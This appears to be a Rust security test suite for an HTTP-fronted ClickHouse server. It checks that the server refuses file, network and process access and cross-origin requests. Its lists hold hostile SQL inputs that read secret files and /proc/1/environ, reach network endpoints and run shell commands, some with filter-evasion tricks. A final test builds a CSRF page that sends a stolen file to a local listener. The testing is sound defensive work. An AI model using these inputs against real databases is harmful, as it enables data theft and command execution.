//! Attempts of an attacker: files, network and programs through statements; requests without the password; full servers.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::mpsc::Receiver;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use crate::server::{Answer, Server, eventually};

const CANARY: &str = "canary of the test";

/// `{dir}`: a folder outside the data; `{port}`: a listener of the test.
const DANGEROUS: &[&str] = &[
    "SELECT * FROM file('{dir}/secret', 'LineAsString')",
    "SELECT file('{dir}/secret')",
    "SELECT `file` /* x */ ('{dir}/secret')",
    "SELECT \"\\x66ile\"('{dir}/secret')",
    "DESCRIBE TABLE file('{dir}/secret', 'CSV')",
    "SELECT * FROM '{dir}/secret'",
    "SELECT * FROM `{dir}/secret`",
    "WITH (SELECT 1) AS x SELECT * FROM url('http://127.0.0.1:{port}/', 'LineAsString', 's String')",
    "INSERT INTO FUNCTION url('http://127.0.0.1:{port}/', 'LineAsString', 's String') SELECT 'x'",
    "INSERT INTO FUNCTION file('{dir}/out', 'CSV', 'a Int64') VALUES (1)",
    "INSERT INTO FUNCTION file('{dir}/out', 'CSV', 'a Int64') SELECT 1",
    "SELECT * FROM remote('127.0.0.1:{port}', system.one)",
    "SELECT * FROM remoteSecure('127.0.0.1:{port}', system.one)",
    "SELECT * FROM cluster('default', system.one)",
    "SELECT hasColumnInTable('127.0.0.1:{port}', 'u', 'p', 'system', 'one', 'dummy')",
    "SELECT catboostEvaluate('{dir}/secret', 1)",
    "SELECT * FROM s3('http://127.0.0.1:{port}/bucket/key', 'NOSIGN', 'LineAsString', 's String')",
    "SELECT * FROM executable('cat {dir}/secret', 'LineAsString', 's String')",
    "SELECT * FROM mysql('127.0.0.1:{port}', 'a', 'b', 'c', 'd')",
    "SELECT * FROM postgresql('127.0.0.1:{port}', 'a', 'b', 'c', 'd')",
    "SELECT * FROM mongodb('127.0.0.1:{port}', 'a', 'b', 'c', 'd', 'a Int8')",
    "SELECT * FROM redis('127.0.0.1:{port}', 'k', 'k String, v String')",
    "SELECT * FROM jdbc('jdbc:x', 'y', 'z')",
    "SELECT * FROM odbc('DSN=x', 'y', 'z')",
    "SELECT * FROM hdfs('hdfs://127.0.0.1:{port}/x', 'CSV', 'a Int8')",
    "SELECT * FROM sqlite('{dir}/a.db', 't')",
    "SELECT * FROM filesystem('{dir}')",
    "SELECT * FROM Python(secret)",
    "SELECT * FROM icebergLocal('{dir}')",
    "CREATE TABLE e (s String) ENGINE = File(LineAsString, '{dir}/secret')",
    "CREATE TABLE e (s String) ENGINE URL('http://127.0.0.1:{port}/', 'LineAsString')",
    "CREATE TABLE e (s String) ENGINE = Executable('touch {dir}/ran', 'LineAsString')",
    "CREATE TABLE e (s String) ENGINE = `ExecutablePool`('touch {dir}/ran', 'LineAsString')",
    "CREATE TABLE e (a UInt64) ENGINE = EmbeddedRocksDB(0, '{dir}/rocks') PRIMARY KEY a",
    "CREATE TABLE e (s String) ENGINE = FileLog('{dir}/', 'LineAsString')",
    "CREATE TABLE e (s String) ENGINE = Distributed('default', system, one)",
    "CREATE TABLE e (s String) ENGINE = Kafka('127.0.0.1:{port}', 'a', 'b', 'CSV')",
    "CREATE MATERIALIZED VIEW e ENGINE = File(CSV, '{dir}/out') AS SELECT 1 AS a",
    "CREATE VIEW e AS SELECT file('{dir}/secret')",
    "CREATE TABLE e AS file('{dir}/secret', 'LineAsString')",
    "CREATE TABLE e (a Int8) ENGINE = Memory PARALLEL WITH CREATE TABLE g (s String) ENGINE = File(CSV)",
    "CREATE DATABASE e ENGINE = Filesystem('{dir}')",
    "CREATE DATABASE e ENGINE = SQLite('{dir}/a.db')",
    "CREATE DATABASE e ENGINE = MySQL('127.0.0.1:{port}', 'a', 'b', 'c')",
    "CREATE DATABASE e ENGINE = S3('http://127.0.0.1:{port}/bucket/', 'NOSIGN')",
    "CREATE DATABASE e ENGINE = Backup('x', File('{dir}/backup'))",
    "CREATE TABLE e (a Int8) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = local, path = '{dir}/disk/')",
    "CREATE TABLE e (a Int8) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = web, endpoint = 'http://127.0.0.1:{port}/a/')",
    "CREATE TABLE e (a Int8) ENGINE = Log SETTINGS disk = `disk`(type = local, path = '{dir}/disk/')",
    "CREATE DATABASE e ENGINE = Atomic SETTINGS disk = disk(type = local, path = '{dir}/disk/')",
    "CREATE TABLE e (a Int8) ENGINE = MergeTree ORDER BY a SETTINGS storage_policy = 'other'",
    "CREATE DICTIONARY e (a UInt64) PRIMARY KEY a SOURCE(EXECUTABLE(COMMAND 'touch {dir}/ran' FORMAT TSV)) LAYOUT(FLAT()) LIFETIME(0)",
    "CREATE DICTIONARY e (a UInt64) PRIMARY KEY a SOURCE(FILE(PATH '{dir}/secret' FORMAT TSV)) LAYOUT(FLAT()) LIFETIME(0)",
    "CREATE DICTIONARY e (a UInt64) PRIMARY KEY a SOURCE(HTTP(URL 'http://127.0.0.1:{port}/' FORMAT TSV)) LAYOUT(FLAT()) LIFETIME(0)",
    "CREATE FUNCTION e AS (x) -> x + 1",
    "CREATE NAMED COLLECTION e AS url = 'http://127.0.0.1:{port}/'",
    "CREATE USER e",
    "CREATE ROLE e",
    "GRANT ALL ON *.* TO default",
    "BACKUP TABLE t TO File('{dir}/backup')",
    "BACKUP TABLE t TO Disk('default', 'backup')",
    "RESTORE TABLE t FROM File('{dir}/backup')",
    "ATTACH TABLE e FROM '{dir}/' (a Int8) ENGINE = MergeTree ORDER BY a",
    "ATTACH TABLE e (a Int8) ENGINE = Memory",
    "ALTER TABLE t FREEZE",
    "ALTER TABLE t UNLOCK SNAPSHOT 'x' FROM Disk('default', 'x')",
    "SYSTEM SHUTDOWN",
    "SYSTEM KILL",
    "SYSTEM RELOAD CONFIG",
    "SYSTEM RELOAD DICTIONARIES",
    "SELECT 1 INTO OUTFILE '{dir}/out'",
    "SELECT 1 INTO /* x */ OUTFILE '{dir}/out' FORMAT CSV",
    "SELECT 1 INTO\u{a0}OUTFILE '{dir}/out'",
    "SELECT \u{2018}'\u{2019} INTO OUTFILE '{dir}/out'; SELECT \u{2018}'\u{2019}",
    "SELECT $'$ ' $'$ INTO OUTFILE '{dir}/out'; SELECT $'$ ' $'$",
    "INSERT INTO t FROM INFILE '{dir}/secret' FORMAT LineAsString",
    "INSERT INTO t SELECT s FROM input('s String'); SELECT 1 INTO OUTFILE '{dir}/out' FORMAT CSV\nx",
    "SELECT 1 SETTINGS output_format_schema = '{dir}/out'",
    "SELECT 1 AS a FORMAT Template SETTINGS format_template_resultset = '{dir}/secret'",
    "SELECT 1 SETTINGS format_schema_source = 'file'",
    "SELECT * FROM t SETTINGS additional_result_filter = 'file(\\'{dir}/secret\\') = s'",
    "SELECT * FROM t SETTINGS additional_table_filters = {'t': 'file(\\'{dir}/secret\\') = s'}",
    "SET dialect = 'kusto'",
    "EXECUTE AS default SELECT 1",
    "COPY t TO '{dir}/out'",
];

/// Files read by expressions inside texts, which only the engine parses: the kernel refuses them.
const HIDDEN: &[&str] = &[
    "SELECT * FROM format(JSONEachRow, 'b Int8, a String DEFAULT file(\\'{dir}/secret\\')', '{\"b\":1}')",
    "INSERT INTO t VALUES (file('{dir}/secret'))",
    "INSERT INTO t VALUES (file('/proc/1/environ'))",
    "INSERT INTO t VALUES (hasColumnInTable('127.0.0.1:{port}', 'u', 'p', 'system', 'one', 'dummy')::String)",
];

struct Outside {
    folder: tempfile::TempDir,
    listener: TcpListener,
}

impl Outside {
    fn new() -> Outside {
        let folder = tempfile::tempdir().unwrap();
        std::fs::write(folder.path().join("secret"), CANARY).unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        Outside { folder, listener }
    }

    fn fill(&self, statement: &str) -> String {
        let port = self.listener.local_addr().unwrap().port().to_string();
        statement.replace("{dir}", self.folder.path().to_str().unwrap()).replace("{port}", &port)
    }

    fn is_refused(&self, server: &Server, statement: &str) {
        let statement = self.fill(statement);
        let answer = server.post("", &statement);
        assert_ne!(answer.status, 200, "{statement}: {}", answer.text());
        assert!(answer.code().is_some(), "{statement}: {}", answer.text());
        assert!(!answer.text().contains(CANARY), "{statement}: {}", answer.text());
    }

    fn is_untouched(&self) {
        let files: Vec<_> =
            std::fs::read_dir(self.folder.path()).unwrap().map(|file| file.unwrap().file_name()).collect();
        assert_eq!(files, ["secret"]);
        let error = self.listener.accept().expect_err("nothing connects to the listener of the test");
        assert_eq!(error.kind(), std::io::ErrorKind::WouldBlock);
    }
}

#[test]
fn no_statement_reaches_files_network_or_processes() {
    for more in [&[][..], &["--no-sandbox"]] {
        let Some(mut server) = Server::start(more) else { return };
        let outside = Outside::new();
        server.ask("CREATE TABLE t (s String) ENGINE = MergeTree ORDER BY s");
        for statement in DANGEROUS {
            outside.is_refused(&server, statement);
        }
        if more.is_empty() {
            for statement in HIDDEN {
                outside.is_refused(&server, statement);
            }
        }
        outside.is_untouched();
        assert_eq!(server.ask("SELECT count() FROM t"), "0");
        assert_eq!(
            server.ask("SELECT groupArray(name) FROM system.tables WHERE database = 'default'"),
            "['t']"
        );
        server.terminate();
        assert_eq!(server.exit_code(), Some(0));
    }
}

#[test]
fn a_get_only_reads_and_nothing_lifts_that() {
    let Some(server) = Server::start(&[]) else { return };
    server.ask("CREATE TABLE t (x UInt8) ENGINE = Memory");
    for query in [
        "query=INSERT+INTO+t+VALUES+(1)",
        "readonly=0&query=INSERT+INTO+t+SELECT+1",
        "query=INSERT+INTO+t+SETTINGS+readonly=0+SELECT+1",
        "query=SELECT+1+SETTINGS+readonly=0",
        "query=SELECT+1+SETTINGS+max_threads=77",
        "query=SET+readonly=0",
        "query=DROP+TABLE+t",
        "query=KILL+QUERY+WHERE+1",
        "query=CREATE+TABLE+u+(x+UInt8)+ENGINE=Memory",
    ] {
        let answer = server.request("GET", &format!("/?{query}"), &[], b"");
        assert_eq!(answer.code(), Some("164"), "{query}: {}", answer.text());
    }
    let read = server.request("GET", "/?max_threads=3&query=SELECT+getSetting('max_threads')", &[], b"");
    assert_eq!((read.status, read.text().as_str()), (200, "3\n"));
    assert_eq!(server.ask("SELECT count() FROM t"), "0");
}

#[test]
fn only_the_password_opens() {
    let Some(mut server) = Server::start(&[]) else { return };
    let password = server.password.clone();
    assert_eq!(server.anonymous("GET", "/ping", &[], b"").status, 200);
    for (target, headers) in [
        ("/?query=SELECT+1", &[][..]),
        ("/?query=SELECT+1&user=default&password=wrong", &[]),
        ("/?query=SELECT+1", &[("x-clickhouse-user", "default"), ("x-clickhouse-key", "wrong")]),
        ("/?query=SELECT+1", &[("x-clickhouse-user", "admin"), ("x-clickhouse-key", password.as_str())]),
        ("/?query=SELECT+1", &[("authorization", "Basic ZGVmYXVsdDp3cm9uZw==")]),
    ] {
        let answer = server.anonymous("GET", target, headers, b"");
        assert_eq!((answer.status, answer.code()), (401, Some("516")), "{target} {headers:?}");
        assert!(answer.text().contains("Authentication failed"), "{}", answer.text());
        assert!(answer.header("www-authenticate").is_some_and(|value| value.starts_with("Basic ")));
    }
    let target = format!("/?query=SELECT+1&user=default&password={password}");
    assert_eq!(server.anonymous("GET", &target, &[], b"").text(), "1\n");
    // The errors name neither the address nor the password.
    let target = format!("/?query=SELEC+1&nothing=2&password={password}");
    assert_ne!(server.anonymous("GET", &target, &[], b"").status, 200);
    assert!(!server.process().output().contains(&password), "{}", server.process().output());
}

#[test]
fn pages_of_other_origins_are_refused() {
    let Some(server) = Server::start(&[]) else { return };
    let own = format!("http://{}", server.address);
    let status =
        |method, headers: &[(&str, &str)]| server.request(method, "/?query=SELECT+1", headers, b"").status;
    for method in ["GET", "POST"] {
        assert_eq!(status(method, &[("sec-fetch-site", "none")]), 200);
        assert_eq!(status(method, &[("sec-fetch-site", "same-origin"), ("origin", &own)]), 200);
        for headers in [
            &[("sec-fetch-site", "cross-site")][..],
            &[("sec-fetch-site", "same-site")],
            &[("origin", "http://127.0.0.1:1")],
            &[("origin", "http://127.0.0.1")],
            &[("origin", "null")],
        ] {
            assert_eq!(status(method, headers), 403, "{headers:?}");
        }
    }
}

// 16 queries run and 64 wait.
#[test]
fn a_full_server_still_takes_inserts_and_can_be_looked_at_and_relieved() {
    let Some(server) = Server::start(&[]) else { return };
    server.ask("CREATE TABLE t (x UInt8) ENGINE = MergeTree ORDER BY x");
    let slow = "SELECT sleepEachRow(0.2) FROM numbers(100000) SETTINGS max_block_size = 1";
    let mut clients: Vec<TcpStream> =
        (0..80).map(|_| server.send("/", &[], slow.len(), slow.as_bytes())).collect();
    let running = "SELECT count() FROM system.processes WHERE query LIKE '%sleepEachRow%' AND query NOT LIKE '%processes%'";
    eventually("16 queries run", || server.ask(running) == "16");
    // A query that finds a place while some of the others are still on their way waits like those.
    eventually("the server is full", || {
        let mut another = server.send("/", &[], slow.len(), slow.as_bytes());
        another.set_read_timeout(Some(Duration::from_secs(1))).unwrap();
        let is_answered = another.peek(&mut [0]).is_ok();
        another.set_read_timeout(Some(Duration::from_secs(60))).unwrap();
        if is_answered {
            return Answer::read(&mut another).code() == Some("202");
        }
        clients.push(another);
        false
    });
    for _ in 0..3 {
        assert_eq!(server.post("query=INSERT+INTO+t+FORMAT+CSV", "1\n").status, 200);
    }
    // Which of those that wait gets a free place is open, so all are killed, a few at a time.
    let (is_done, began) = (AtomicBool::new(false), Instant::now());
    let killed: Vec<Answer> = std::thread::scope(|scope| {
        scope.spawn(|| {
            while !is_done.load(Ordering::Relaxed) && began.elapsed() < Duration::from_secs(60) {
                server.ask("KILL QUERY WHERE query LIKE '%sleepEachRow%' AND query NOT LIKE '%KILL%' ASYNC");
            }
        });
        let killed = clients.iter_mut().map(Answer::read).collect();
        is_done.store(true, Ordering::Relaxed);
        killed
    });
    let with = |code| killed.iter().filter(|answer| answer.code() == Some(code)).count();
    assert_eq!((with("394"), with("202")), (80, killed.len() - 80), "killed, refused");
    eventually("places come back", || server.post("", "SELECT count() FROM t").text() == "3\n");
}

#[test]
fn idle_connections_keep_nobody_out() {
    let Some(server) = Server::start(&[]) else { return };
    let mut kept = TcpStream::connect(&server.address).unwrap();
    kept.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    let mut ask = || {
        let head = format!("host: {}\r\nx-clickhouse-key: {}", server.address, server.password);
        write!(kept, "GET /?query=SELECT+'kept' HTTP/1.1\r\n{head}\r\n\r\n").unwrap();
        let mut text = String::new();
        while !text.contains("kept\n") {
            let mut buffer = [0; 4096];
            let length = kept.read(&mut buffer).unwrap();
            assert!(length > 0, "closed after: {text}");
            text.push_str(&String::from_utf8_lossy(&buffer[..length]));
        }
    };
    ask();
    let idle: Vec<TcpStream> = (0..700).map(|_| TcpStream::connect(&server.address).unwrap()).collect();
    assert_eq!(server.ask("SELECT 1"), "1");
    // A connection that has logged in outlives those that never did.
    ask();
    drop(idle);
}

#[test]
fn the_engine_leaves_half_of_the_memory() {
    let Some(mut server) = Server::start(&[]) else { return };
    let meminfo = std::fs::read_to_string("/proc/meminfo").unwrap();
    let total = meminfo.lines().find_map(|line| line.strip_prefix("MemTotal:")).unwrap();
    let total: u64 = total.trim().trim_end_matches(" kB").parse::<u64>().unwrap() << 10;
    let limit = server.ask("SELECT value FROM system.server_settings WHERE name = 'max_server_memory_usage'");
    let limit: u64 = limit.parse().unwrap();
    assert!(limit > 0 && limit <= total / 2, "{limit} of {total}");
    let told = format!("memory_limit_mib={}", limit >> 20);
    assert!(server.process().output().contains(&told), "{}", server.process().output());
}

/// Serves one page and records all other requests, until `/done`.
fn hostile_site(page: String) -> (u16, Receiver<String>, JoinHandle<()>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let (sender, requests) = std::sync::mpsc::channel();
    let site = std::thread::spawn(move || {
        for stream in listener.incoming() {
            let mut stream = stream.unwrap();
            let mut head = [0; 8192];
            let length = stream.read(&mut head).unwrap_or_default();
            let head = String::from_utf8_lossy(&head[..length]).into_owned();
            let line = head.lines().next().unwrap_or_default().to_owned();
            let body = if line.starts_with("GET / ") {
                page.replace("{port}", &port.to_string())
            } else {
                String::new()
            };
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\ncontent-length: {}\r\n\r\n{body}",
                body.len()
            );
            let is_over = line.starts_with("GET /done ");
            if sender.send(line).is_err() || is_over {
                return;
            }
        }
    });
    (port, requests, site)
}

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

// The page even knows the password: as if the browser had stored it, or a tool had put it into a link.
#[test]
fn a_page_in_chromium_takes_nothing_and_writes_nothing() {
    let Some(chromium) = marketprism_tests::parts::chromium() else { return };
    let Some(server) = Server::start(&[]) else { return };
    let folder = tempfile::tempdir().unwrap();
    let secret = folder.path().join("secret");
    std::fs::write(&secret, CANARY).unwrap();
    server.ask("CREATE TABLE t (how String) ENGINE = MergeTree ORDER BY how");
    let base = format!("http://{}/?user=default&password={}", server.address, server.password);
    let steal = format!(
        "WITH (SELECT * FROM file('{}', 'LineAsString')) AS s SELECT * FROM url(concat('http://127.0.0.1:{{port}}/stolen?', s), 'LineAsString', 'x String')",
        secret.display()
    );
    let steal: Vec<String> = steal.split("{port}").map(encoded).collect();
    let steal = format!("{base}&query={}{{port}}{}", steal[0], steal[1]);
    let write = |how: &str| format!("{base}&query={}", encoded(&format!("INSERT INTO t SELECT '{how}'")));
    let (img, frame, fetched, form) = (write("img"), write("frame"), write("fetch"), write("form"));
    let page = format!(
        "<!doctype html><title>before</title><img src=\"{steal}\"><img src=\"{img}\"><iframe src=\"{frame}\"></iframe>\
         <iframe name=\"target\"></iframe><form method=\"post\" target=\"target\" action=\"{form}\"></form>\
         <script>(async () => {{\
           document.forms[0].submit();\
           for (const [address, how] of [[\"{fetched}\", {{method: 'POST', mode: 'no-cors'}}], [\"{steal}\", {{method: 'POST', mode: 'no-cors'}}], [\"{fetched}\", {{mode: 'cors'}}]])\
             try {{ const answer = await fetch(address, how); await fetch('/leak?' + encodeURIComponent(await answer.text())); }} catch (e) {{}}\
           await fetch('/done');\
         }})();</script>"
    );
    let (port, requests, site) = hostile_site(page);
    let mut browser = std::process::Command::new(chromium)
        .args(["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--remote-debugging-port=0"])
        .arg(format!("--user-data-dir={}", folder.path().join("profile").display()))
        .arg(format!("http://127.0.0.1:{port}/"))
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut seen = Vec::new();
    while !seen.iter().any(|line: &String| line.starts_with("GET /done ")) {
        seen.push(requests.recv_timeout(Duration::from_secs(60)).expect("the page runs to its end"));
    }
    site.join().unwrap();
    let _ = browser.kill();
    let _ = browser.wait();
    assert!(!seen.iter().any(|line| line.contains("stolen") || line.contains("canary")), "{seen:?}");
    assert_eq!(server.ask("SELECT groupArray(how) FROM t"), "[]");
    // The same statement from a client with the password.
    let (_, write) = form.split_once("/?").unwrap();
    assert_eq!(server.anonymous("POST", &format!("/?{write}"), &[], b"").status, 200);
    assert_eq!(server.ask("SELECT groupArray(how) FROM t"), "['form']");
    assert!(Path::new(&secret).is_file());
}
